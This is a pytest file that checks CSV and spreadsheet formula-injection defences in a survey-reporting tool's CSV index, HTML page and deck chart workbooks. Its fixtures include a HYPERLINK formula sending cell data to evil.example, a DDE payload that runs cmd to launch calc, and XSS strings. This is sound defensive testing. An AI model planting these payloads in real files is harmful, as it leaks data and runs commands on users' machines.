"""No formula in the spreadsheets we write (issue 24, promise 4).

A segment's name is whatever the survey export holds; the ``index.csv`` of a folder of
briefs and the workbooks behind the deck's charts carry it into a spreadsheet. Every text
cell a spreadsheet would run as a formula must arrive as text (OWASP's CSV-injection
guidance: a leading single quote in CSV, a string cell with Excel's quote prefix in XLSX),
and every figure must stay a number. The questionnaire formats are tested in
``test_questionnaire.py``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import openpyxl
import pandas as pd
import pytest

from conftest import ROOT, SAMPLE_SCORES
from ism_advisor.core.inert import formula_like, limesurvey_text, qualtrics_text, spreadsheet_cell

#: What a spreadsheet (Excel, LibreOffice, Google Sheets) takes as the start of a formula,
#: written out here and not imported, so the tests compare with OWASP's list.
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")

#: The sample's ten departments renamed by someone who means harm (Directie and Facilitair,
#: hidden for anonymity, keep their names).
HOSTILE_DEPARTMENTS = {
    # no web address: a column holding one cannot segment (personal data, issue 24)
    "Zorg": '=HYPERLINK("evil.example/?d="&A1,"Klik")',
    "Engineering": "+SUM(1;2)",
    "Operations": "-Sales",
    "Sales": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Burgerzaken": "\uff1d1+1",
    "Ruimte": "-5",
    "ICT": "<script>alert(1)</script>",
    "Facilitair": "Facilitair",
    "Staf": "Staf",
    "Directie": "Directie",
}


def starts_a_formula(cell: str) -> bool:
    return cell.startswith(FORMULA) and not NUMBER.fullmatch(cell)


@pytest.fixture
def hostile_scores(tmp_path):
    frame = pd.read_csv(SAMPLE_SCORES, dtype=str, keep_default_na=False)
    frame["department"] = frame["department"].map(HOSTILE_DEPARTMENTS)
    path = tmp_path / "hostile.csv"
    frame.to_csv(path, index=False, lineterminator="\n")
    return path


# -- the rule -------------------------------------------------------------------------------


def test_what_counts_as_a_formula():
    for text in ("=1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "\nx", "\uff1dA1", "- 5"):
        assert formula_like(text) and spreadsheet_cell(text) == "'" + text
    for text in ("-0.25", "+3", "-5", "1e-3", "", "Sales", "'=1", " =1", "R&D"):
        assert not formula_like(text) and spreadsheet_cell(text) == text
    # figures are not texts: they pass as they are
    assert [spreadsheet_cell(v) for v in (-0.25, 3, None)] == [-0.25, 3, None]


def test_the_survey_tools_texts_show_the_text_and_run_nothing():
    import html

    for text in ("=HYPERLINK(1)", "-x", "@x", "\uff20x", "<img src=x onerror=alert(1)>"):
        for inert in (limesurvey_text(text), qualtrics_text(text)):
            assert html.unescape(inert) == text
            assert not starts_a_formula(inert) and "<" not in inert
    assert limesurvey_text("{TOKEN:EMAIL}") == "&#123;TOKEN:EMAIL&#125;"
    assert qualtrics_text("${e://Field/email} [[[Block]]") == (
        "$&#123;e://Field/email} &#91;&#91;[Block]]"
    )
    assert limesurvey_text("a\n\tb  c") == qualtrics_text("a\n\tb  c") == "a b c"


# -- index.csv ------------------------------------------------------------------------------


def test_index_csv_keeps_segment_names_as_text_and_figures_as_numbers(
    cli, tmp_path, hostile_scores
):
    result = cli(hostile_scores, "--segment-by", "department", "--per-segment", "briefs", "--brief")
    assert result.exit_code == 0, result.stderr
    text = (tmp_path / "briefs" / "index.csv").read_text("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["segment", "value", "respondents", "adoption_rate", "file"]
    values = {row[1]: row for row in rows[1:]}
    for name in HOSTILE_DEPARTMENTS.values():
        if name in ("Directie", "Facilitair"):
            continue  # hidden in the sample (too few non-users), so no brief
        # a formula-like name starts with a quote; any other name, a number too, as it was
        expected = "'" + name if starts_a_formula(name) else name
        assert expected in values, (name, sorted(values))
    assert values["'" + HOSTILE_DEPARTMENTS["Zorg"]][1:3] == [
        "'" + HOSTILE_DEPARTMENTS["Zorg"],
        "120",
    ]
    assert "-5" in values  # a name that is a number stays the number
    for row in rows[1:]:
        assert not any(starts_a_formula(cell) for cell in row), row
        assert re.fullmatch(r"\d+", row[2]) and re.fullmatch(r"0\.\d{4}|1\.0000", row[3])
    # the index page shows the names as text
    page = (tmp_path / "briefs" / "index.html").read_text("utf-8")
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_the_sample_has_no_formula_in_any_cell():
    for name in ("scores.csv", "responses.csv", "scores-wave2.csv", "responses-wave2.csv"):
        path = SAMPLE_SCORES.parent / name
        for row in csv.reader(io.StringIO(path.read_text("utf-8"))):
            assert not any(starts_a_formula(cell) for cell in row), (name, row)


# -- the deck's chart workbooks -------------------------------------------------------------


def _workbook_cells(data: bytes):
    """(name, cell) of every cell of every chart workbook embedded in a pptx, and the
    hyperlinks those workbooks hold."""
    cells, links = [], []
    with zipfile.ZipFile(io.BytesIO(data)) as deck:
        names = [n for n in deck.namelist() if n.endswith(".xlsx")]
        assert names, "a deck with charts embeds their workbooks"
        for name in names:
            book = openpyxl.load_workbook(io.BytesIO(deck.read(name)))
            for sheet in book.worksheets:
                links += [c.hyperlink for row in sheet.iter_rows() for c in row if c.hyperlink]
                cells += [(name, c) for row in sheet.iter_rows() for c in row]
    return cells, links


def test_the_decks_workbooks_hold_the_codebooks_labels_as_text(cli, tmp_path):
    """The charts' categories are the factors' labels: a codebook's words."""
    packaged = (ROOT / "rules" / "factors.yaml").read_text("utf-8")
    labels = {
        "Performance expectancy": '=HYPERLINK("http://evil.example","Nut")',
        "Privacy concern": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    for old, new in labels.items():
        assert f"      en: {old}\n" in packaged
        packaged = packaged.replace(f"      en: {old}\n", f"      en: {json.dumps(new)}\n")
    (tmp_path / "hostile.yaml").write_text(packaged, encoding="utf-8")
    result = cli(SAMPLE_SCORES, "--codebook", "hostile.yaml", "--format", "pptx", "-o", "deck.pptx")
    assert result.exit_code == 0, result.stderr
    cells, links = _workbook_cells((tmp_path / "deck.pptx").read_bytes())
    assert links == []
    assert not [c.coordinate for _, c in cells if c.data_type == "f"]
    texts = [c for _, c in cells if c.data_type == "s"]
    # as written, not as a formula's result, and with the quote prefix Excel shows as '
    for label in labels.values():
        found = [c for c in texts if c.value == label]
        assert found and all(c.quotePrefix for c in found), label
    assert [c.value for c in texts if c.quotePrefix] == [
        c.value for c in texts if formula_like(c.value)
    ]
    # the figures are numbers
    assert any(c.data_type == "n" and isinstance(c.value, float) for _, c in cells)


def test_a_chart_workbook_writes_texts_as_strings_never_formulas_or_links():
    from ism_advisor.render.deck import chart_data

    data = chart_data("category")
    data.categories = ["=1+1", "http://evil.example", "-5", "Sales", "@x"]
    data.add_series("=HYPERLINK(1)", (1.5, -0.25, 3.0, 4.0, 5.0))
    book = openpyxl.load_workbook(io.BytesIO(data.xlsx_blob))
    sheet = book.active
    assert [(c.value, c.data_type, c.quotePrefix, c.hyperlink) for c in sheet["A"][1:]] == [
        ("=1+1", "s", True, None),
        ("http://evil.example", "s", False, None),
        ("-5", "s", False, None),
        ("Sales", "s", False, None),
        ("@x", "s", True, None),
    ]
    assert (sheet["B1"].value, sheet["B1"].data_type, sheet["B1"].quotePrefix) == (
        "=HYPERLINK(1)",
        "s",
        True,
    )
    assert [c.value for c in sheet["B"][1:]] == [1.5, -0.25, 3.0, 4.0, 5.0]
